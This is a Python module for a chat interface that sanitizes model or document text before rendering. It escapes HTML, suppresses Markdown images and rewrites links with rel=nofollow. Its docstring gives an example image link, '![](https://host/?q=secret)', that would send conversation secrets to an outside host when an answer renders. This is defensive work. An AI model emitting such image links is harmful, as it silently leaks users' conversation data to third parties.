"""What text from a model or a document may become in the page: nothing that loads by itself.

The chat renders Markdown, so an answer (or a document the model copied) that
says ``![](https://host/?q=secret)`` would make every viewer's browser fetch
that address the moment the answer shows: tracking, or exfiltration of what
the conversation holds. Gradio sanitizes HTML against scripts, but an image
is not a script. So text is escaped here, on the server, before any browser
sees it:

- raw HTML and entities are escaped: ``<img src=...>`` shows as text;
- Markdown images become a plain note ``[image not shown: alt]``;
- http(s) links (Markdown or bare) become ``<a>`` written here with
  ``rel="noopener noreferrer nofollow"``; other links stay text;
- backticks and brackets are escaped, so no code span can turn our own
  ``<a>`` back into text and no Markdown link or image can form from what is
  left.

Emphasis, lists and paragraphs still render. Every pattern here runs in time
linear in the text (bounded repetitions between distinct delimiters).
"""

from __future__ import annotations

import html
import re

REL = "noopener noreferrer nofollow"
_URL = r"https?://[^\s<>()\[\]\"'`]{1,2000}"
_LINK = re.compile(
    r"(?P<bang>!?)\[(?P<label>[^\[\]\n]{0,500})\]\((?P<url>" + _URL + r"|[^()\s]{0,2000})"
    r"(?:\s+\"[^\"\n]{0,300}\")?\)"
    r"|(?P<bare>" + _URL + r")"
)
_TEXT_ESCAPES = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;", "[": "&#91;", "]": "&#93;", "`": "&#96;",
                               "\\": "&#92;"})
_TRAILING = ".,;:!?"  # a bare URL at the end of a sentence does not own its full stop


def _text(text: str) -> str:
    # "www." and e-mail addresses would be autolinked by the browser-side Markdown; break the pattern
    return text.translate(_TEXT_ESCAPES).replace("www.", "www&#46;").replace("@", "&#64;")


def _anchor(url: str, label: str) -> str:
    return f'<a href="{html.escape(url, quote=True)}" rel="{REL}">{_text(label)}</a>'


def safe_markdown(text: str) -> str:
    """``text`` as Markdown that shows the same words but loads nothing and links only with rel=nofollow."""
    out: list[str] = []
    pos = 0
    for m in _LINK.finditer(text):
        out.append(_text(text[pos:m.start()]))
        pos = m.end()
        if m.group("bare"):
            url = m.group("bare")
            kept = url.rstrip(_TRAILING)
            out.append(_anchor(kept, kept) + _text(url[len(kept):]))
        elif m.group("bang"):
            label = m.group("label").strip()
            out.append(_text(f"[image not shown{': ' + label if label else ''}]"))
        elif m.group("url").startswith(("http://", "https://")):
            out.append(_anchor(m.group("url"), m.group("label") or m.group("url")))
        else:  # javascript:, data:, relative paths: shown as the text they are
            out.append(_text(m.group(0)))
    out.append(_text(text[pos:]))
    return "".join(out)
